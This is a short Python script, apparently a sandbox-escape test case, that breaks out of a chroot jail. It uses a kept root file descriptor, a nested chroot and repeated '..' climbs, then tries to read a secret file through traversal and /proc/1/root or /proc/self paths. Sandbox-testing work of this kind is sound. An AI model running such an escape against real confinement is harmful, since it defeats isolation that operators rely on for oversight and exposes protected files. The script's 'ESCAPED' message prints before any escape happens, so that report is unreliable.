"""climbs out of its root: dots, chroot in chroot, an open folder kept, /proc/1/root"""

import json
import os
import sys

world = json.loads(sys.argv[1])
kept = os.open("/", os.O_PATH)
try:
    os.mkdir("inner")
    os.chroot("inner")
    print("ESCAPED: chroot")
    os.fchdir(kept)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
above = [os.path.join(way, "..") for way in ("/proc/self/root", f"/proc/self/fd/{kept}")]
for start in ("/" + "../" * 64, "/proc/1/root", *above):
    try:
        print(open(start + world["secret"]).read())
    except OSError:
        continue
